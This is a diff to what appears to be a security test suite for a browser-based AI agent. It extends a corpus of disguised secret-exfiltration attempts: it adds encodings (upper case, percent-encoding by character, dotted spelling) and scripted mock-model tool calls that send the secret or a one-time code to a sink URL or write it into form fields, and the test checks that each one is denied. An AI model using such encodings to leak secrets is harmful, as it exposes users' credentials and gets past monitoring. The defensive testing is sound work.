@@ -39,6 +39,9 @@ export const ADDRESS_ENCODINGS: [string, (s: string) => string][] = [
   ['URL-encoded', (s) => encodeURIComponent(`key ${s}`)],
   ['URL-encoded twice', (s) => encodeURIComponent(encodeURIComponent(s))],
   ['HTML references', (s) => encodeURIComponent(entities(s))],
+  ['upper case', (s) => s.toUpperCase()],
+  ['percent-encoded character by character', (s) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')],
+  ['spelled with dots', (s) => [...s].join('.')],
 ];
 
 /** How a secret is disguised in text written to a page or a search. */
@@ -49,6 +52,8 @@ export const TEXT_ENCODINGS: [string, (s: string) => string][] = [
   ['hex', hex],
   ['spelled out', (s) => [...s].join(' ')],
   ['in a sentence', (s) => `Thanks for the great service, my reference is ${s}, see you soon`],
+  ['upper case', (s) => s.toUpperCase()],
+  ['spelled with dots', (s) => [...s].join('.')],
 ];
 
 /** Every form of the secret an attempt may carry: the sink must receive none of them. */
@@ -176,7 +181,10 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
   const fetches = addresses(sink.https, 'f');
   await path('fetch_url', fetches.length, async () => {
     const from = await card(panel, 'fetch_url').count();
-    llm.enqueue(one('fetch_url', { url: `${sink.https}/control-fetch` }), toolCalls(fetches.map((url) => ({ name: 'fetch_url', args: { url } }))), { text: ['Done.'] });
+    // Two steps: a run takes at most 10 tool calls in one step.
+    const half = Math.ceil(fetches.length / 2);
+    const step = (urls: string[]) => toolCalls(urls.map((url) => ({ name: 'fetch_url', args: { url } })));
+    llm.enqueue(one('fetch_url', { url: `${sink.https}/control-fetch` }), step(fetches.slice(0, half)), step(fetches.slice(half)), { text: ['Done.'] });
     await sendChat(panel, 'Go on.');
     await approveNext(panel, 'fetch_url', from, ledger, false);
     const found = await denyFlagged(panel, 'fetch_url', from + 1, fetches.length, (i) => ADDRESS_ENCODINGS[i]![0]);
@@ -200,14 +208,15 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
   await page.bringToFront();
   type Write = { name: string; args: (req: RecordedRequest) => unknown; label: string };
   // Two steps, each within the run's limit of tool calls per step.
-  const firstStep: Write[] = [
-    ...TEXT_ENCODINGS.map(([label], i) => ({ name: 'fill_form', label, args: (req: RecordedRequest) => ({ updates: { [refIn(req, 'Note')]: texts[i] } }) })),
-    { name: 'select', label: 'plain', args: (req: RecordedRequest) => ({ ref: refIn(req, 'City'), option: SECRET }) },
-    { name: 'select', label: 'base64', args: (req: RecordedRequest) => ({ ref: refIn(req, 'City'), option: b64(SECRET) }) },
+  const firstStep: Write[] = TEXT_ENCODINGS.map(([label], i) => ({ name: 'fill_form', label, args: (req: RecordedRequest) => ({ updates: { [refIn(req, 'Note')]: texts[i] } }) }));
+  const choices: [string, string][] = [['plain', SECRET], ['base64', b64(SECRET)], ['hex', hex(SECRET)], ['spelled out', [...SECRET].join(' ')]];
+  const secondStep: Write[] = [
+    ...choices.map(([label, option]) => ({ name: 'select', label, args: (req: RecordedRequest) => ({ ref: refIn(req, 'City'), option }) })),
     { name: 'set_value', label: 'the one-time code', args: (req: RecordedRequest) => ({ ref: refIn(req, 'Amount'), value: CODE }) },
+    { name: 'set_value', label: 'the one-time code spelled out', args: (req: RecordedRequest) => ({ ref: refIn(req, 'Amount'), value: [...CODE].join(' ') }) },
   ];
-  const secondStep: Write[] = TEXT_ENCODINGS.map(([label], i) => ({ name: 'type', label, args: (req: RecordedRequest) => ({ ref: refIn(req, 'Message'), text: texts[i] }) }));
-  const writes = [...firstStep, ...secondStep];
+  const thirdStep: Write[] = TEXT_ENCODINGS.map(([label], i) => ({ name: 'type', label, args: (req: RecordedRequest) => ({ ref: refIn(req, 'Message'), text: texts[i] }) }));
+  const writes = [...firstStep, ...secondStep, ...thirdStep];
   const stepOf = (list: Write[]) => (req: RecordedRequest) => toolCalls(list.map((w) => ({ name: w.name, args: w.args(req) })));
   llm.enqueue(
     one('get_page_state'),
@@ -215,6 +224,7 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
     (req) => one('type', { ref: refIn(req, 'Message'), text: 'hello' }),
     stepOf(firstStep),
     stepOf(secondStep),
+    stepOf(thirdStep),
     { text: ['Done.'] },
   );
   await sendChat(panel, 'Fill in the feedback form.');
